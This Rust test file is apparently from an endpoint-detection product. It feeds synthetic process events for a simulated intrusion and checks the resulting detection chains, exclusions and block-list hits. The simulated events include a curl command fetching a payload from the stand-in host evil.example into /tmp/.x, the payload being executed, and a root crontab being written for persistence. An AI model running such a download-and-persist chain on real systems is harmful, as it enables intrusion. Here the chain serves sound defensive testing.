//! Chains of synthetic machines: what was done is what is told.

use super::*;

/// curl is fetched, drops, is gone; what it dropped is run, and runs a child.
fn intrusion(machine: &mut Machine) {
    begun(machine);
    let dropped = PathBuf::from("/tmp/.x");
    let at = machine.later(10);
    machine.tell(vec![
        fork(at, 100, 21),
        exec(at + MS, 100, 21, "/usr/bin/curl", &["curl", "-o", "/tmp/.x", "http://evil.example/x"]),
        question(at + 2 * MS, 100, "evil.example"),
        connection(at + 3 * MS, 100, Step::Connecting, 5),
        connection(at + 4 * MS, 100, Step::Connected, 5),
        file(at + 5 * MS, 100, &dropped, Change::Created),
        exit(at + 6 * MS, 100, 0),
        // Another matter of the same machine.
        exec(at + 6 * MS, 10, 1, "/usr/sbin/sshd", &["sshd"]),
    ]);
    std::thread::sleep(Duration::from_millis(400));
    let at = machine.later(500);
    machine.tell(vec![
        fork(at, 101, 21),
        exec(at + MS, 101, 21, "/tmp/.x", &["/tmp/.x"]),
        fork(at + 2 * MS, 102, 101),
        exec(at + 3 * MS, 102, 101, "/usr/bin/crontab", &["crontab", "-"]),
        file(at + 4 * MS, 102, Path::new("/var/spool/cron/crontabs/root"), Change::Created),
        exit(at + 5 * MS, 102, 256),
    ]);
}

#[test]
fn a_chain_is_what_the_machine_did_down_to_each_process_and_file() {
    let mut machine = Machine::new();
    intrusion(&mut machine);
    machine.until("the whole chain", |told| {
        told.one(|seen| {
            deeds(seen).len() >= 7 && seen.processes.get(&key(102)).is_some_and(|p| p.ended_at_us > 0)
        })
    });
    let seen = machine.only();
    let mut told = deeds(seen);
    told.sort();
    let expected = [
        (100, "ask evil.example"),
        (100, "connect 443 2"),
        (100, "create /tmp/.x"),
        (100, "start /usr/bin/curl"),
        (101, "start /tmp/.x"),
        (102, "create /var/spool/cron/crontabs/root"),
        (102, "start /usr/bin/crontab"),
    ];
    assert_eq!(told, expected.map(|(pid, deed)| (pid, deed.to_owned())));
}

#[test]
fn members_parents_and_the_key_event_are_right() {
    let mut machine = Machine::new();
    intrusion(&mut machine);
    machine.until("the whole chain", |told| {
        told.one(|seen| {
            seen.processes.len() >= 5 && deeds(seen).len() >= 7 && seen.processes[&key(102)].ended_at_us > 0
        })
    });
    let seen = machine.only();
    assert_eq!(seen.root, Some(key(20)), "the session, not the daemon");
    assert_eq!(seen.boot_id, BOOT);
    let parents: Vec<_> =
        seen.processes.values().map(|p| (p.key.pid, p.parent.map(|parent| parent.pid))).collect();
    assert_eq!(parents, [(20, Some(10)), (21, Some(20)), (100, Some(21)), (101, Some(21)), (102, Some(101))]);
    assert_eq!(paths(seen), ["/usr/sbin/sshd", "/bin/bash", "/usr/bin/curl", "/tmp/.x", "/usr/bin/crontab"]);
    let detection = &seen.detections[0];
    assert_eq!((seen.detections.len(), detection.techniques.as_slice()), (1, &["T1105".to_owned()][..]));
    let Some(Deed::Start(image)) = &seen.activities[&detection.activity].deed else { panic!() };
    assert_eq!((image.path.as_slice(), detection.protection), (&b"/tmp/.x"[..], 7));
    assert_eq!(seen.processes[&key(102)].exit_status, 256);
    assert!(seen.processes[&key(20)].from_before && !seen.processes[&key(101)].incomplete);
    assert!(seen.gaps.begins_late && seen.gaps.lost == 0);
    assert!(seen.processes[&key(100)].ended_at_us >= seen.processes[&key(100)].started_at_us);
}

#[test]
fn the_first_word_of_a_detection_comes_at_once_and_new_events_follow() {
    let mut machine = Machine::new();
    begun(&mut machine);
    let at = machine.later(10);
    let began = Instant::now();
    machine.tell(vec![fork(at, 101, 21), exec(at + MS, 101, 21, "/tmp/.x", &["/tmp/.x"])]);
    machine.until("a detection", |told| told.one(|seen| !seen.detections.is_empty()));
    assert!(began.elapsed() < Duration::from_millis(400), "{:?}", began.elapsed());
    let at = machine.later(300);
    machine.tell(vec![connection(at, 101, Step::Connecting, 9)]);
    machine
        .until("a connection", |told| told.one(|seen| deeds(seen).contains(&(101, "connect 443 1".into()))));
    let at = machine.later(300);
    machine.tell(vec![connection(at, 101, Step::Failed(111), 9)]);
    machine.until("its end", |told| told.one(|seen| deeds(seen).contains(&(101, "connect 443 3".into()))));
    assert_eq!(deeds(machine.only()).len(), 2, "the same event");
    // A second detection in the same tree.
    let at = machine.later(300);
    machine.tell(vec![fork(at, 103, 21), exec(at + MS, 103, 21, "/tmp/y", &["/tmp/y"])]);
    machine.until("it joins", |told| told.one(|seen| seen.detections.len() == 2));
    // And one elsewhere.
    let at = machine.later(300);
    machine.tell(vec![fork(at, 200, 1), exec(at + MS, 200, 1, "/tmp/z", &["/tmp/z"])]);
    machine.until("another chain", |told| told.chains.len() == 2);
}

#[test]
fn what_the_agent_does_is_no_detection_and_what_it_starts_is() {
    let mut machine = Machine::new();
    begun(&mut machine);
    let at = machine.later(10);
    machine.tell(vec![
        fork(at, 300, 900),
        exec(at + MS, 300, 900, "/usr/bin/quell-agent", &["quell-agent", "worker"]),
        fork(at + 2 * MS, 301, 300),
        exec(at + 3 * MS, 301, 300, "/tmp/script", &["/tmp/script"]),
    ]);
    machine.until("a detection", |told| told.one(|seen| !seen.detections.is_empty()));
    assert_eq!(machine.only().root, Some(key(301)), "the agent is nobody's attacker");
}

#[test]
fn what_is_excluded_is_not_detected_and_a_rule_that_hits_again_is_folded() {
    let excluded = current(|document| {
        document.exclusions = vec![Exclusion { path: b"/tmp/build/".to_vec(), ..Exclusion::default() }];
    });
    let mut machine = Machine::on(Arc::new(tempfile::tempdir().unwrap()), BOOT, excluded);
    begun(&mut machine);
    let at = machine.later(10);
    machine.tell(vec![fork(at, 99, 21), exec(at + MS, 99, 21, "/tmp/build/cc", &["cc"])]);
    let raws = (0..500).flat_map(|n| {
        let at = at + u64::from(n) * MS / 10;
        [fork(at, 1000 + n, 21), exec(at, 1000 + n, 21, "/tmp/x", &["x"]), exit(at, 1000 + n, 0)]
    });
    machine.tell(raws.collect());
    machine.until("all of them", |told| told.one(|seen| deeds(seen).len() == 501));
    let seen = machine.only();
    assert_eq!(seen.detections.len(), 1);
    assert_eq!(machine.door.counts().folded.load(Ordering::Relaxed), 499);
}

#[test]
fn what_the_guard_denied_and_the_list_met_gets_its_chain() {
    let mut machine = Machine::new();
    begun(&mut machine);
    let at = machine.later(10);
    machine.tell(vec![
        fork(at, 101, 21),
        exec(at + MS, 101, 21, "/bin/wget", &["wget"]),
        question(at + 2 * MS, 101, "a.evil.example"),
    ]);
    let denied = quell_host::guard::Hit {
        attempt: quell_host::guard::Attempt::Exec,
        denied: true,
        rule: "order-3".into(),
        path: "/home/bad".into(),
        sha256: "ab".repeat(32),
        sha1: None,
        pid: 21,
        uid: Some(0),
        name: "bash".into(),
        ppid: 20,
        parent: "sshd".into(),
        untold: 0,
        let_pass: None,
    };
    machine.door.tell(Input::Met(Met::Kept(Box::new(denied))));
    machine.until("a detection", |told| told.one(|seen| !seen.detections.is_empty()));
    let detection = &machine.only().detections[0];
    assert_eq!(detection.verdict, i32::from(quell_wire::activity::Verdict::Prevented));
    assert_eq!(
        (detection.sha256.as_slice(), detection.source),
        (&[0xab; 32][..], i32::from(Source::BlockList))
    );
    let Some(Deed::Start(image)) = &machine.only().activities[&detection.activity].deed else { panic!() };
    assert_eq!(image.path, b"/home/bad");
    let listed = quell_catalog::blocklist::report::Hit {
        kind: quell_catalog::blocklist::Kind::Domain,
        value: "*.evil.example".into(),
        action: quell_catalog::blocklist::Action::Block,
        blocked: true,
        way: "dns".into(),
        subject: "a.evil.example".into(),
        version: 3,
        count: 1,
        pid: None,
        program: None,
        user: None,
    };
    machine.door.tell(Input::Met(Met::Listed(Box::new(listed), None)));
    machine.until("a second one", |told| told.one(|seen| seen.detections.len() == 2));
    let seen = machine.only();
    assert!(matches!(&seen.activities[&seen.detections[1].activity].deed, Some(Deed::Dns(_))));
}
